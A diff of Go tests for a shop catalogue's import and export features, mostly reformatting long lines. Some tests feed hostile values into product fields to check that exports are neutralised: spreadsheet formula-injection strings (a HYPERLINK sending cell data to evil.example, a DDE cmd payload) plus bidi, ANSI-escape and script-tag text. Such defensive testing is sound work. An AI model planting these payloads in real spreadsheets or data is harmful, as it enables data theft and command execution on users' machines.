@@ -45,7 +45,8 @@ func uploaded(t testing.TB, s *apptest.Shop, text string, o wanted) *imports.Run
 	if err != nil {
 		t.Fatal(err)
 	}
-	if err := service.Set(t.Context(), by, r.ID, -1, imports.Setting{Columns: r.Columns, Store: o.store, Branches: o.branches, VATBP: 1400}); err != nil {
+	if err := service.Set(t.Context(), by, r.ID, -1,
+		imports.Setting{Columns: r.Columns, Store: o.store, Branches: o.branches, VATBP: 1400}); err != nil {
 		t.Fatal(err)
 	}
 	return r
@@ -110,10 +111,14 @@ func catalogued(s *apptest.Shop) []string {
 	var all []string
 	for _, query := range []string{
 		`SELECT 'c ' || name_en || COALESCE(parent_id, '') FROM categories ORDER BY 1`,
-		`SELECT 'p ' || id || slug || store_id || category_id || name_en || name_ar || description_en || description_ar || images || attributes || options || keywords || tags
-			|| unit_en || unit_ar || min_qty || ' ' || max_qty || ' ' || step_qty || ' ' || vat_bp || active || version FROM products ORDER BY 1`,
-		`SELECT 'v ' || id || product_id || sku || barcode || choices || name_en || name_ar || active || weight_grams FROM variants ORDER BY 1`,
-		`SELECT 'a ' || branch_id || variant_id || price || COALESCE(CAST(offer_price AS TEXT), '') || COALESCE(CAST(offer_to AS TEXT), '') || active || version FROM branch_prices ORDER BY 1`,
+		`SELECT 'p ' || id || slug || store_id || category_id || name_en || name_ar || description_en || description_ar ||
+			images || attributes || options || keywords || tags
+			|| unit_en || unit_ar || min_qty || ' ' || max_qty || ' ' || step_qty || ' ' || vat_bp || active || version
+			FROM products ORDER BY 1`,
+		`SELECT 'v ' || id || product_id || sku || barcode || choices || name_en || name_ar || active || weight_grams
+			FROM variants ORDER BY 1`,
+		`SELECT 'a ' || branch_id || variant_id || price || COALESCE(CAST(offer_price AS TEXT),
+			'') || COALESCE(CAST(offer_to AS TEXT), '') || active || version FROM branch_prices ORDER BY 1`,
 		`SELECT 's ' || branch_id || variant_id || on_hand || ' ' || reserved || counted FROM stock ORDER BY 1`,
 		`SELECT 'm ' || COUNT(*) FROM stock_moves`,
 	} {
@@ -141,7 +146,8 @@ func TestAnImportFromAnotherShop(t *testing.T) {
 			t.Fatal("a dry run changed something")
 		}
 		rep, done := inShop(t, s, fromShopify, o)
-		if fmt.Sprint(planned.Counts) != fmt.Sprint(rep.Counts) || rep.Counts[imports.Added] != 2 || rep.Counts[imports.Refused] != 1 || fmt.Sprint(rep.Mapping().Unplaced()) != "[Vendor]" {
+		if fmt.Sprint(planned.Counts) != fmt.Sprint(rep.Counts) || rep.Counts[imports.Added] != 2 ||
+			rep.Counts[imports.Refused] != 1 || fmt.Sprint(rep.Mapping().Unplaced()) != "[Vendor]" {
 			t.Errorf("planned %+v, done %+v", planned, rep)
 		}
 		for i, one := range done {
@@ -155,13 +161,17 @@ func TestAnImportFromAnotherShop(t *testing.T) {
 				t.Errorf("%+v", one)
 			}
 		}
-		if got := s.Lines(`SELECT v.sku || ' ' || v.name_en || ' ' || b.price || ' ' || COALESCE(b.offer_price, 0) || ' ' || k.on_hand FROM variants v
+		if got := s.Lines(`SELECT v.sku || ' ' || v.name_en || ' ' || b.price || ' ' || COALESCE(b.offer_price,
+			0) || ' ' || k.on_hand FROM variants v
 			JOIN branch_prices b ON b.variant_id = v.id JOIN stock k ON k.variant_id = v.id AND k.branch_id = b.branch_id
-			WHERE v.sku IN ('BAS-S', 'BAS-L') AND b.branch_id = 'br_koshary_maadi' ORDER BY v.sku`); fmt.Sprint(got) != "[BAS-L Large 8000 6050 2 BAS-S Small 4000 0 5]" {
+			WHERE v.sku IN ('BAS-S', 'BAS-L') AND b.branch_id = 'br_koshary_maadi'
+			ORDER BY v.sku`); fmt.Sprint(got) != "[BAS-L Large 8000 6050 2 BAS-S Small 4000 0 5]" {
 			t.Error(got)
 		}
-		if got := s.Lines(`SELECT p.name_en || ' ' || c.name_en || ' ' || u.name_en FROM products p JOIN categories c ON c.id = p.category_id
-			JOIN categories u ON u.id = c.parent_id WHERE p.slug = 'basbousa'`); fmt.Sprint(got) != "[Basbousa Oriental Sweets]" {
+		if got := s.Lines(`SELECT p.name_en || ' ' || c.name_en || ' ' || u.name_en FROM products p
+			JOIN categories c ON c.id = p.category_id
+			JOIN categories u ON u.id = c.parent_id
+			WHERE p.slug = 'basbousa'`); fmt.Sprint(got) != "[Basbousa Oriental Sweets]" {
 			t.Error(got)
 		}
 		// One language is enough to be published.
@@ -183,17 +193,21 @@ func TestVariationsThatComeLater(t *testing.T) {
 	dbtest.Each(t, func(t *testing.T, d *db.DB) {
 		s := apptest.New(t, d)
 		file := "ID,Type,SKU,Name,Published,Regular price,Categories,Parent,Attribute 1 name,Attribute 1 value(s)\n" +
-			"7,variable,SHIRT,Shirt,1,,Clothes,,Size,\"S, M\"\n8,simple,TEA-W,Tea,1,3,Drinks,,,\n9,variation,SH-S,x,1,50,,id:7,Size,S\n" +
+			"7,variable,SHIRT,Shirt,1,,Clothes,,Size,\"S, " +
+			"M\"\n8,simple,TEA-W,Tea,1,3,Drinks,,,\n9,variation,SH-S,x,1,50,,id:7,Size,S\n" +
 			"10,variable,EMPTY,Empty,1,,Clothes,,Size,S\n11,variation,SH-M,x,1,55,,SHIRT,Size,M\n12,variation,LOST,x,1,5,,NONE,Size,M\n"
 		o := wanted{id: "imp_dry", store: "gadgets", branches: []string{"gadgets-nasr"}, dry: true}
 		dry, _ := inShop(t, s, file, o)
 		o.id, o.dry = "imp_1", false
 		rep, all := inShop(t, s, file, o)
-		if got := s.Lines(`SELECT p.name_en || ' ' || v.sku || ' ' || v.name_en || ' ' || b.price FROM products p JOIN variants v ON v.product_id = p.id
-			JOIN branch_prices b ON b.variant_id = v.id WHERE v.sku IN ('SH-S', 'SH-M', 'TEA-W') ORDER BY v.sku`); fmt.Sprint(got) != "[Shirt SH-M M 5500 Shirt SH-S S 5000 Tea TEA-W  300]" {
+		if got := s.Lines(`SELECT p.name_en || ' ' || v.sku || ' ' || v.name_en || ' ' || b.price FROM products p
+			JOIN variants v ON v.product_id = p.id
+			JOIN branch_prices b ON b.variant_id = v.id WHERE v.sku IN ('SH-S', 'SH-M', 'TEA-W')
+			ORDER BY v.sku`); fmt.Sprint(got) != "[Shirt SH-M M 5500 Shirt SH-S S 5000 Tea TEA-W  300]" {
 			t.Errorf("%v %+v", got, all)
 		}
-		if rep.Counts[imports.Refused] != 2 || dry.Counts[imports.Refused] != 2 || fmt.Sprint(rep.Counts) != fmt.Sprint(dry.Counts) {
+		if rep.Counts[imports.Refused] != 2 || dry.Counts[imports.Refused] != 2 ||
+			fmt.Sprint(rep.Counts) != fmt.Sprint(dry.Counts) {
 			t.Errorf("%+v %+v", rep, dry)
 		}
 		s.Healthy()
@@ -212,7 +226,8 @@ func TestWhatIsExportedIsImported(t *testing.T) {
 		}
 		before := catalogued(s)
 		rep, all := inShop(t, s, file.String(), wanted{id: "imp_1"})
-		if after := catalogued(s); !slices.Equal(before, after) || rep.Format != imports.Ours || len(rep.Mapping().Unplaced()) != 0 || rep.RowsDone != int64(rows) {
+		if after := catalogued(s); !slices.Equal(before, after) || rep.Format != imports.Ours ||
+			len(rep.Mapping().Unplaced()) != 0 || rep.RowsDone != int64(rows) {
 			t.Errorf("%+v %+v", rep, all)
 			for i := range before {
 				if i < len(after) && before[i] != after[i] {
@@ -224,12 +239,15 @@ func TestWhatIsExportedIsImported(t *testing.T) {
 			t.Errorf("%+v %+v", rep.Counts, all)
 		}
 		// A price in a sheet of its own, Arabic figures and all.
-		sku := s.Lines(`SELECT v.sku FROM variants v JOIN branch_prices b ON b.variant_id = v.id WHERE b.branch_id = 'br_koshary_maadi' ORDER BY v.id`)[0]
-		rep, all = inShop(t, s, "الكود;الفرع;السعر;المخزون\n"+sku+";koshary-maadi;٩٩٫٥٠;٤\nNO-SUCH;koshary-maadi;5;1\n", wanted{id: "imp_2"})
+		sku := s.Lines(`SELECT v.sku FROM variants v JOIN branch_prices b ON b.variant_id = v.id
+			WHERE b.branch_id = 'br_koshary_maadi' ORDER BY v.id`)[0]
+		rep, all = inShop(t, s, "الكود;الفرع;السعر;المخزون\n"+sku+";koshary-maadi;٩٩٫٥٠;٤\nNO-SUCH;koshary-maadi;5;1\n",
+			wanted{id: "imp_2"})
 		if rep.Format != imports.Prices || rep.Counts[imports.Changed] != 1 || rep.Counts[imports.Refused] != 1 {
 			t.Errorf("%+v %+v", rep, all)
 		}
-		if got := s.Lines(`SELECT b.price FROM branch_prices b JOIN variants v ON v.id = b.variant_id WHERE b.branch_id = 'br_koshary_maadi' AND v.sku = '` + sku + `'`); fmt.Sprint(got) != "[9950]" {
+		if got := s.Lines(`SELECT b.price FROM branch_prices b JOIN variants v ON v.id = b.variant_id
+			WHERE b.branch_id = 'br_koshary_maadi' AND v.sku = '` + sku + `'`); fmt.Sprint(got) != "[9950]" {
 			t.Error(got)
 		}
 		s.Healthy()
@@ -241,9 +259,12 @@ func TestWhatIsExportedIsImported(t *testing.T) {
 func TestNothingExportedIsAFormula(t *testing.T) {
 	dbtest.Each(t, func(t *testing.T, d *db.DB) {
 		s := apptest.New(t, d)
-		hostile := []string{`=HYPERLINK("http://evil.example?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "'=already", "''@twice", "'plain", "=1;2, 3"}
+		hostile := []string{`=HYPERLINK("http://evil.example?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
+			"'=already", "''@twice", "'plain", "=1;2, 3"}
 		for i, name := range hostile {
-			s.Exec(`UPDATE products SET name_en = $1, name_ar = $1, description_en = $1, keywords = $1, unit_en = $1 WHERE id = (SELECT id FROM products WHERE archived_at IS NULL ORDER BY id LIMIT 1 OFFSET `+strconv.Itoa(i)+`)`, name)
+			s.Exec(`UPDATE products SET name_en = $1, name_ar = $1, description_en = $1, keywords = $1, unit_en = $1
+				WHERE id = (SELECT id FROM products WHERE archived_at IS NULL
+				ORDER BY id LIMIT 1 OFFSET `+strconv.Itoa(i)+`)`, name)
 		}
 		s.Exec(`UPDATE variants SET sku = '=1+1' WHERE id = (SELECT MIN(id) FROM variants)`)
 		for _, kind := range []string{"csv", "xlsx"} {
@@ -268,7 +289,8 @@ func TestNothingExportedIsAFormula(t *testing.T) {
 					if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
 						t.Errorf("%s, line %d: %q", kind, line, c)
 					}
-					if strings.HasPrefix(c, "'=") || strings.HasPrefix(c, "'+") || strings.HasPrefix(c, "'-") || strings.HasPrefix(c, "'@") {
+					if strings.HasPrefix(c, "'=") || strings.HasPrefix(c, "'+") || strings.HasPrefix(c, "'-") ||
+						strings.HasPrefix(c, "'@") {
 						marked++
 					}
 				}
@@ -298,7 +320,8 @@ func TestHostileTextInFiles(t *testing.T) {
 		evil := "a\u202eb\u2066c\x1b[31md\x07<script>x</script>e\u200f"
 		var file bytes.Buffer
 		w := csv.NewWriter(&file)
-		head := []string{"handle", "name_en", "name_ar", "description_en", "keywords", "tags", "unit_en", "category", "facts", "option1", "value1", "sku", "barcode", "branch", "price", "stock", "published"}
+		head := []string{"handle", "name_en", "name_ar", "description_en", "keywords", "tags", "unit_en", "category", "facts",
+			"option1", "value1", "sku", "barcode", "branch", "price", "stock", "published"}
 		_ = w.Write(head)
 		row := make([]string, len(head))
 		for i, c := range head {
@@ -338,15 +361,18 @@ func TestARunIsUndoneAsOne(t *testing.T) {
 	dbtest.Each(t, func(t *testing.T, d *db.DB) {
 		s := apptest.New(t, d)
 		values := func() []string {
-			return append(append(s.Lines(`SELECT 'p ' || id || name_en || description_en || options || active FROM products WHERE archived_at IS NULL ORDER BY id`),
-				s.Lines(`SELECT 'a ' || branch_id || variant_id || price || COALESCE(CAST(offer_price AS TEXT), '') FROM branch_prices WHERE active ORDER BY 1`)...),
+			return append(append(s.Lines(`SELECT 'p ' || id || name_en || description_en || options || active FROM products
+				WHERE archived_at IS NULL ORDER BY id`),
+				s.Lines(`SELECT 'a ' || branch_id || variant_id || price || COALESCE(CAST(offer_price AS TEXT), '')
+					FROM branch_prices WHERE active ORDER BY 1`)...),
 				s.Lines(`SELECT 's ' || branch_id || variant_id || on_hand FROM stock WHERE on_hand > 0 ORDER BY 1`)...)
 		}
 		inShop(t, s, "handle,name_en,name_ar,category,sku,branch,price,offer_price,stock,published\n"+
 			"lemonade,Lemonade,ليمون,Drinks,LEM-1,koshary-maadi,30,25,4,yes\n", wanted{id: "imp_0", store: "koshary-house"})
 		before := values()
 		file := "handle,name_en,name_ar,category,option1,value1,sku,branch,price,stock,published\n" +
-			"new-a,New A,جديد,Sweets,Size,S,NEW-A,koshary-maadi,10,3,yes\nnew-b,New B,جديد,Sweets,Size,S,NEW-B,koshary-maadi,10,3,yes\n" +
+			"new-a,New A,جديد,Sweets,Size,S,NEW-A,koshary-maadi,10,3,yes\nnew-b,New " +
+			"B,جديد,Sweets,Size,S,NEW-B,koshary-maadi,10,3,yes\n" +
 			"lemonade,Other lemonade,,,,,LEM-1,koshary-maadi,77.25,9,\n"
 		o := wanted{id: "imp_1", store: "koshary-house"}
 		rep, all := inShop(t, s, file, o)
@@ -372,10 +398,12 @@ func TestARunIsUndoneAsOne(t *testing.T) {
 		if len(left) != 0 || len(values()) != len(before)+3 { // it keeps its price and its stock
 			t.Errorf("%v", left)
 		}
-		if err := s.App.Imports().TakeBack(t.Context(), imports.Actor{StaffID: asOwner}, "imp_1", -1); !errs.Is(err, "imports.not_now") {
+		if err := s.App.Imports().TakeBack(t.Context(), imports.Actor{StaffID: asOwner}, "imp_1", -1); !errs.Is(err,
+			"imports.not_now") {
 			t.Errorf("undone twice: %v", err)
 		}
-		if err := s.App.Imports().TakeBack(t.Context(), imports.Actor{StaffID: asOwner}, "imp_none", -1); !errs.Is(err, "common.not_found") {
+		if err := s.App.Imports().TakeBack(t.Context(), imports.Actor{StaffID: asOwner}, "imp_none", -1); !errs.Is(err,
+			"common.not_found") {
 			t.Errorf("a run that is not there was undone: %v", err)
 		}
 		s.Healthy()
@@ -394,7 +422,8 @@ func TestImportSpeed(t *testing.T) {
 		var b strings.Builder
 		b.WriteString("handle,name_en,name_ar,category,option1,value1,sku,price,stock,published\n")
 		for i := range rows {
-			fmt.Fprintf(&b, "p%d,%s %d,قميص %d,Shirts,Size,%d,IMP-%d,%d.50,%d,yes\n", i/4, called, i/4, i/4, i%4, i, 10+i%90, i%20)
+			fmt.Fprintf(&b, "p%d,%s %d,قميص %d,Shirts,Size,%d,IMP-%d,%d.50,%d,yes\n", i/4, called, i/4, i/4, i%4, i, 10+i%90,
+				i%20)
 		}
 		return b.String()
 	}
@@ -405,7 +434,8 @@ func TestImportSpeed(t *testing.T) {
 			id, called, outcome string
 			most                float64 // ms of CPU for a row
 		}{{"imp_1", "Shirt", imports.Added, 1}, {"imp_2", "Shirts", imports.Changed, 2}} {
-			r := started(t, s, file(leg.called), wanted{id: leg.id, store: "gadgets", branches: []string{"gadgets-nasr"}, rights: imports.Rights{Role: "editor"}, by: "stf_000001"})
+			r := started(t, s, file(leg.called), wanted{id: leg.id, store: "gadgets", branches: []string{"gadgets-nasr"},
+				rights: imports.Rights{Role: "editor"}, by: "stf_000001"})
 			// A leg ends at each quarter.
 			began, used := time.Now(), []time.Duration{cpu(t)}
 			for chunks := (rows/4 + 61) / 62; r.State != imports.Done; {
@@ -422,8 +452,8 @@ func TestImportSpeed(t *testing.T) {
 			each := func(from, to int) float64 {
 				return (used[to] - used[from]).Seconds() * 1000 / (float64(rows) / 4 * float64(to-from))
 			}
-			t.Logf("%s: %d rows at %.0f rows a second, %.3f ms of CPU each; the first quarter %.3f, the last %.3f", leg.outcome, rows,
-				float64(rows)/time.Since(began).Seconds(), each(0, 4), each(0, 1), each(3, 4))
+			t.Logf("%s: %d rows at %.0f rows a second, %.3f ms of CPU each; the first quarter %.3f, the last %.3f", leg.outcome,
+				rows, float64(rows)/time.Since(began).Seconds(), each(0, 4), each(0, 1), each(3, 4))
 			if each(0, 4) > leg.most {
 				t.Errorf("%s: %.3f ms of CPU for a row", leg.outcome, each(0, 4))
 			}
